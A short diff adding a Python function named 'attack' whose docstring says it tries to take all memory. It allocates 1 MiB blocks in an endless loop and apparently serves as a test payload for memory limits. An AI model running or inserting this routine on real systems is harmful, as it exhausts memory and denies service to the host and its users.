@@ -1,0 +1,7 @@
+"""Tries to take all memory."""
+
+
+def attack(argument):
+    held = []
+    while True:
+        held.append(bytearray(1 << 20))
